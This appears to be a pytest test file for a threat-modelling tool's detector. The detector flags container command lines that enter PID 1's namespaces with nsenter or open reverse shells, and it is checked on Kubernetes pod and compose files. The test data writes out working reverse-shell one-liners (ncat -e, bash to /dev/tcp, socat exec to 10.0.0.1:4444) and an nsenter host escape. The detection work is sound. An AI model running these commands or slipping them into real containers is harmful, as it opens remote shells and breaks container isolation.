"""Shells for others are found in command lines; one command in other namespaces is none."""

import time

import pytest

from tests.engine.importers.compose.readings import of
from threatmodel.engine.importers.given_shells import given_shell

NSENTER = "nsenter in the namespaces of process 1"


@pytest.mark.parametrize(
    ("line", "given"),
    [
        ("nsenter --target 1 --mount --uts --ipc --net --pid -- bash", NSENTER),
        ("nsenter -t 1 -m -u -n -i /bin/sh", NSENTER),
        ("nsenter -t1 -a", NSENTER),
        ("nsenter -t 1 -m -- sysctl -w vm.max_map_count=262144", ""),
        ("nsenter -t 100 -m bash", ""),
        ("/bin/sh -c -- ncat --ssl $HOST $PORT -e /bin/bash;", "reverse shell by netcat"),
        ("nc -lve /bin/sh 10.0.0.1 4444", "reverse shell by netcat"),
        ("nc -z db 5432", ""),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell by bash"),
        ("bash -c 'echo > /dev/tcp/db/5432'", ""),
        ("socat tcp:10.0.0.1:4444 exec:'bash -li',pty", "reverse shell by socat"),
        ("socat tcp-listen:80,fork tcp:web:80", ""),
        ("bash", ""),
    ],
)
def test_shells_for_others(line: str, given: str) -> None:
    assert given_shell([line]) == given


@pytest.mark.parametrize("word", ["nsenter -t 1 ", "nc ", "socat ", "ncat -e "])
def test_names_over_and_over_take_no_time(word: str) -> None:
    started = time.process_time()

    for _ in range(50):
        given_shell([word * 2_000])

    assert time.process_time() - started < 1


def test_services_and_pods_state_it() -> None:
    pod = (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n"
        "spec: {containers: [{name: a, image: b, command: [nc, -e, sh]}]}\n"
    )
    compose = "services: {c: {image: b, command: nc -e sh}}"

    elements = of({"a.yaml": pod, "compose.yaml": compose}).model.elements

    found = {uid for uid, one in elements.items() if "given_shell" in one.facts}
    assert found == {"k8s:default/Pod/a/a", "compose:c/c"}
